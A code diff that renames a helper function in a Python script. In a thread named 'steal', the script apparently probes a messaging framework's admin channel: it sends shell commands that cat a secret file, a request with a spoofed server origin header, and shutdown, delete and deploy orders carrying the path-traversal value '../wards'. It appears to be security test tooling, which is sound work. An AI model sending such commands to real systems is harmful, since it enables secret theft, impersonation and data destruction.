@@ -35,7 +35,7 @@ def order(topic: str, body: str = "", job: str | None = None) -> Message:
     return message
 
 
-def asked(channel: str, topic: str, body: Any, **headers: str) -> str:
+def ask(channel: str, topic: str, body: Any, **headers: str) -> str:
     """Return the result of a request: the return code, and its content."""
     try:
         request = new_cell_message(dict(headers), body)
@@ -52,23 +52,23 @@ def steal(out: Path, secret: str) -> None:
         time.sleep(0.1)
     admin, spoofed = CellChannel.CLIENT_MAIN, {MessageHeaderKey.ORIGIN: "server"}
     answers_by_attempt = {
-        "read": asked(admin, "admin", order("sys.shell", f"cat {secret}")),
-        "list": asked(admin, "admin", order("sys.shell", "ls -a")),
-        "as the server": asked(admin, "admin", order("sys.shell", f"cat {secret}"), **spoofed),
-        "host": asked(admin, "admin", order("sys.info")),
-        "paths": asked(admin, "admin", order("sys.report_env")),
-        "errors": asked(admin, "admin", order("info.show_errors")),
-        "end": asked(admin, "admin", order("train.shutdown")),
-        "delete": asked(admin, "admin", order("train.delete_run", job="../wards")),
-        "deploy": asked(admin, "admin", order("train.deploy", job="../wards")),
-        "stop": asked("_net_manager", "stop", None),
+        "read": ask(admin, "admin", order("sys.shell", f"cat {secret}")),
+        "list": ask(admin, "admin", order("sys.shell", "ls -a")),
+        "as the server": ask(admin, "admin", order("sys.shell", f"cat {secret}"), **spoofed),
+        "host": ask(admin, "admin", order("sys.info")),
+        "paths": ask(admin, "admin", order("sys.report_env")),
+        "errors": ask(admin, "admin", order("info.show_errors")),
+        "end": ask(admin, "admin", order("train.shutdown")),
+        "delete": ask(admin, "admin", order("train.delete_run", job="../wards")),
+        "deploy": ask(admin, "admin", order("train.deploy", job="../wards")),
+        "stop": ask("_net_manager", "stop", None),
     }
     out.with_suffix(".part").write_text(json.dumps(answers_by_attempt))
     out.with_suffix(".part").rename(out)
 
 
 if __name__ == "__main__":
-    kit, state, told, answers, wanted = sys.argv[1:6]
+    kit, state, options, answers, wanted = sys.argv[1:6]
     made, Cell.__init__ = Cell.__init__, spied
     threading.Thread(target=steal, args=(Path(answers), wanted), daemon=True).start()
-    sys.exit(run.run_process(open_kit(Path(kit)), Path(state), json.loads(told), lambda interrupt: 130))
+    sys.exit(run.run_process(open_kit(Path(kit)), Path(state), json.loads(options), lambda interrupt: 130))
